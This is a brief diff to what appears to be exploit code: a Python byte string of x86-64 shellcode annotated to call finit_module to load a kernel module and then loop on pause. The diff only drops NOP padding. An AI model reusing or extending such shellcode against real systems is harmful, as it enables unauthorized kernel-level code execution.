@@ -41,7 +41,6 @@ LOADER = bytes.fromhex(
     "31d2b8390100000f05"  # xor edx, edx; mov eax, 313; syscall  # finit_module
     "b8220000000f05"  # mov eax, 34; syscall  # pause
     "ebf7"  # jmp back to it
-    "90" * 10
 )
 
 
